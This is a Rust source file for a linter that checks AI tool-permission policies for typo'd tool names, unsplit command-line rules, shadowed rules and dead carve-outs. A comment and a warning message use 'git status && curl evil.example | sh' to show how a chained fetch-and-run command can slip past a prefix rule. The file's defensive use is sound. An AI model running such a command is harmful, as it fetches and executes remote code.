//! Warnings about rules that are valid but cannot do what their author
//! meant: a bare deny or ask rule one typo from a declared tool, a
//! command-line tool read without a splitter, a rule an earlier one
//! shadows, a carve-out that reaches no rule. `toolgate check --strict` turns them into errors.
//!
//! Lint only reads the checked lists: it never changes what is compiled.

use super::{CRule, SourceInfo, ToolInfo};
use crate::diag::{Diagnostic, DiagnosticKind};
use crate::ir::Ir;
use crate::policy::List;
use std::collections::HashMap;

/// Arguments a matcher reads that hold a whole command line: a rule on them
/// sees `git status && curl evil.example | sh` as one string that starts
/// with `git status`.
const COMMAND_FIELDS: &[&str] = &["command", "cmd", "script", "command_line", "commandLine"];

/// Matcher kinds that read their field as one string; the others (the
/// Claude Code kinds) split the command line themselves.
const STRING_KINDS: &[&str] = &["prefix", "glob"];

/// The warnings for `lists`, in the order their rules were written.
pub(super) fn lint(
    ir: &Ir<'_>,
    lists: &[Vec<CRule<'_>>; 3],
    tools: &[ToolInfo],
    sources: &[SourceInfo],
) -> Vec<(u32, Diagnostic)> {
    let mut out = Vec::new();
    for t in tools {
        let Some((kind, _)) = &t.kind else { continue };
        let command = t
            .field
            .as_deref()
            .is_some_and(|f| COMMAND_FIELDS.contains(&f));
        if command && t.split.is_none() && STRING_KINDS.contains(&kind.as_str()) {
            // An allow rule is where the line gets through, so it is the
            // one pointed at when there is one.
            let of_tool = |r: &&CRule<'_>| r.tool == t.name && r.spec.is_some() && !r.carve;
            let rule = lists
                .get(List::Allow.index())
                .and_then(|a| a.iter().find(of_tool))
                .or_else(|| lists.iter().flatten().find(of_tool));
            let d = Diagnostic::new(
                DiagnosticKind::NoSplitter,
                format!(
                    "`{}` reads the command line `{}` without a splitter, so a rule that allows its start allows whatever follows (`git status && curl evil.example | sh`)",
                    t.name,
                    t.field.as_deref().unwrap_or_default()
                ),
            )
            .with_help(format!(
                "add `\"split\": \"shell\"` to the matcher of `{}`, so each command of the line is decided on its own",
                t.name
            ));
            match rule {
                Some(r) => out.push((r.location, d.at(ir.location(r.location)).with_token(r.text))),
                None => out.push((u32::MAX, d)),
            }
        }
    }
    let declared: Vec<&str> = tools.iter().map(|t| t.name.as_str()).collect();
    for l in List::ALL {
        let list = lists.get(l.index()).map_or(&[][..], Vec::as_slice);
        for r in list {
            // Only deny and ask rules: an allow rule that names no tool
            // fails closed.
            if l == List::Allow || r.glob || r.spec.is_some() || declared.contains(&r.tool) {
                continue;
            }
            if let Some(near) = did_you_mean(r.tool, &declared) {
                let d = Diagnostic::new(
                    DiagnosticKind::UnknownTool,
                    format!(
                        "the {} rule `{}` names no declared tool, so it only covers a tool named exactly `{}`; did you mean `{near}`?",
                        l.name(),
                        r.text,
                        r.tool
                    ),
                )
                .with_help(format!("write `{near}`, or declare `{}` under `matchers` if it is a tool of its own", r.tool))
                .at(ir.location(r.location))
                .with_token(r.text);
                out.push((r.location, d));
            }
        }
        // A rule that comes after one covering every call it matches never
        // decides: the first rule that fires is the one a verdict names.
        // Only the exact cases: an earlier bare rule of its tool (or a
        // tool-name glob naming it), or an earlier copy from another
        // source, with no carve-out of the tool in the list that could
        // cancel the earlier rule alone.
        let covers = Covers::new(list);
        for (i, r) in list.iter().enumerate() {
            if r.carve {
                continue;
            }
            if let Some(e) = covers.first(i, r).and_then(|e| list.get(e)) {
                let from = match sources.get(e.source as usize) {
                    Some(s) if !s.name.is_empty() => format!(" of `{}`", s.name),
                    _ => String::new(),
                };
                let d = Diagnostic::new(
                    DiagnosticKind::ShadowedRule,
                    format!(
                        "the {} rule `{}` never decides: the earlier {} rule `{}`{from} covers every call it matches",
                        l.name(),
                        r.text,
                        l.name(),
                        e.text
                    ),
                )
                .with_help(if e.text == r.text {
                    "remove the copy: the earlier one decides, and is the one a verdict names".to_string()
                } else {
                    format!(
                        "remove `{}`, or write it before `{}` if it should be the one a verdict names",
                        r.text, e.text
                    )
                })
                .at(ir.location(r.location))
                .with_token(r.text);
                out.push((r.location, d));
            }
        }
        // The lowest rank of each tool's rules, to judge carve-outs without
        // a pass over the list for each.
        let mut lowest: HashMap<&str, i64> = HashMap::new();
        let rank = |r: &CRule<'_>| sources.get(r.source as usize).map_or(0, |s| s.rank);
        for r in list.iter().filter(|r| !r.carve) {
            let e = lowest.entry(r.tool).or_insert(i64::MAX);
            *e = (*e).min(rank(r));
        }
        let any_glob = list.iter().any(|r| r.glob);
        for c in list.iter().filter(|r| r.carve) {
            // A tool-name glob could reach the tool; what it reaches is the
            // runtime's to say, so only a list without one is judged.
            let reached = any_glob || lowest.get(c.tool).is_some_and(|&lo| lo <= rank(c));
            if !reached {
                let d = Diagnostic::new(
                    DiagnosticKind::UnreachableCarveOut,
                    format!(
                        "the carve-out `{}` reaches no {} rule of `{}` at or below its rank, so it excepts nothing",
                        c.text,
                        l.name(),
                        c.tool
                    ),
                )
                .with_help(format!(
                    "a carve-out excepts calls from the rules of its own list; add the {} rule it was meant to narrow, or remove it",
                    l.name()
                ))
                .at(ir.location(c.location))
                .with_token(c.text);
                out.push((c.location, d));
            }
        }
    }
    out
}

/// The rules of one list indexed for [`covers`]: the first bare rule of
/// each tool, the first of each (tool, specifier) pair, the bare tool-name
/// globs and the tools with a carve-out. Asking for the first rule that
/// covers a later one is then a few lookups and a pass over the globs,
/// where comparing every pair made a 100k-rule policy take seconds.
struct Covers<'l, 'a> {
    bare: HashMap<&'a str, usize>,
    copies: HashMap<(&'a str, bool, Option<&'a str>), usize>,
    globs: Vec<(usize, &'l CRule<'a>)>,
    carved: std::collections::HashSet<&'a str>,
}

impl<'l, 'a> Covers<'l, 'a> {
    fn new(list: &'l [CRule<'a>]) -> Self {
        let mut c = Covers {
            bare: HashMap::new(),
            copies: HashMap::new(),
            globs: Vec::new(),
            carved: Default::default(),
        };
        for (i, r) in list.iter().enumerate() {
            if r.carve {
                c.carved.insert(r.tool);
                continue;
            }
            c.copies.entry((r.tool, r.glob, r.spec)).or_insert(i);
            if r.spec.is_none() {
                if r.glob {
                    c.globs.push((i, r));
                } else {
                    c.bare.entry(r.tool).or_insert(i);
                }
            }
        }
        c
    }

    /// The index of the first rule before `i` that covers `r`, the rule at
    /// `i`: the first `e` for which `covers(e, r, carved)` holds.
    fn first(&self, i: usize, r: &CRule<'a>) -> Option<usize> {
        let carved = self.carved.contains(r.tool);
        let before = |e: &usize| *e < i;
        let glob = if r.glob {
            None
        } else {
            self.globs
                .iter()
                .take_while(|(e, _)| *e < i)
                .find(|(_, g)| crate::glob::matches(g.tool, r.tool))
                .map(|(e, _)| *e)
        };
        let tool = (!carved && r.spec.is_some())
            .then(|| self.bare.get(r.tool).copied().filter(before))
            .flatten();
        let copy = (!carved)
            .then(|| {
                self.copies
                    .get(&(r.tool, r.glob, r.spec))
                    .copied()
                    .filter(before)
            })
            .flatten();
        [glob, tool, copy].into_iter().flatten().min()
    }
}

/// Whether `earlier`, written before `later` in one list, fires on every
/// call `later` fires on: a bare tool-name glob naming its tool, a bare rule
/// of its tool, or a copy of it. `carved` says a carve-out of the tool is in
/// the list, which could cancel `earlier` alone; only the glob case stands
/// then, since no carve-out reaches a glob.
#[cfg(test)]
fn covers(earlier: &CRule<'_>, later: &CRule<'_>, carved: bool) -> bool {
    let (e, r) = (earlier, later);
    if e.carve {
        return false;
    }
    let bare = e.spec.is_none();
    let glob = bare && e.glob && !r.glob && crate::glob::matches(e.tool, r.tool);
    let tool = bare && !e.glob && e.tool == r.tool && r.spec.is_some() && !carved;
    let copy = !carved && e.tool == r.tool && e.glob == r.glob && e.spec == r.spec;
    glob || tool || copy
}

/// The declared name `name` is most likely a typo of: one that differs
/// only in case, or by one edit (an insertion, a deletion, a substitution
/// or two neighbours swapped), ignoring case.
pub fn did_you_mean<'n>(name: &str, known: &[&'n str]) -> Option<&'n str> {
    let lower = name.to_lowercase();
    let mut best: Option<(usize, &'n str)> = None;
    for &k in known {
        let d = crate::policy::doc::edit_distance(&lower, &k.to_lowercase());
        if d <= 1 && best.is_none_or(|(bd, bk)| (d, k) < (bd, bk)) {
            best = Some((d, k));
        }
    }
    best.map(|(_, k)| k)
}

#[cfg(test)]
mod tests {
    use super::{covers, did_you_mean, CRule, Covers};
    use crate::policy::doc::edit_distance;

    #[test]
    fn one_edit_is_near_and_two_are_not() {
        assert_eq!(edit_distance("bahs", "bash"), 1);
        assert_eq!(edit_distance("bsh", "bash"), 1);
        assert_eq!(edit_distance("bassh", "bash"), 1);
        assert_eq!(edit_distance("bach", "bash"), 1);
        assert_eq!(edit_distance("bahs", "bahs"), 0);
        assert!(edit_distance("shab", "bash") >= 2);
        assert_eq!(did_you_mean("Bahs", &["bash", "read"]), Some("bash"));
        assert_eq!(did_you_mean("BASH", &["bash"]), Some("bash"));
        assert_eq!(did_you_mean("fetch", &["bash", "read"]), None);
    }

    /// The index answers what comparing every earlier rule answers, on
    /// lists of copies, bare rules, globs and carve-outs of a few tools.
    #[test]
    fn the_index_finds_the_first_covering_rule_as_a_pass_over_the_list_does() {
        let tools = ["bash", "read", "mcp__gh__x", "mcp__*", "mcp__gh__*"];
        let specs = [None, Some("git:*"), Some("rm:*")];
        let mut state = 0x2545_f491_4f6c_dd1d_u64;
        let mut next = |n: u64| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % n) as usize
        };
        for _ in 0..400 {
            let len = 1 + next(12);
            let list: Vec<CRule<'_>> = (0..len)
                .map(|_| {
                    let tool = tools[next(tools.len() as u64)];
                    let glob = tool.contains('*');
                    CRule {
                        tool,
                        glob,
                        bound: false,
                        spec: if glob { None } else { specs[next(3)] },
                        carve: !glob && next(6) == 0,
                        source: 0,
                        note: None,
                        text: tool,
                        location: 0,
                    }
                })
                .collect();
            let index = Covers::new(&list);
            for (i, r) in list.iter().enumerate().filter(|(_, r)| !r.carve) {
                let carved = list.iter().any(|c| c.carve && c.tool == r.tool);
                let plain = list[..i].iter().position(|e| covers(e, r, carved));
                assert_eq!(index.first(i, r), plain, "rule {i} of {list:?}");
            }
        }
    }
}
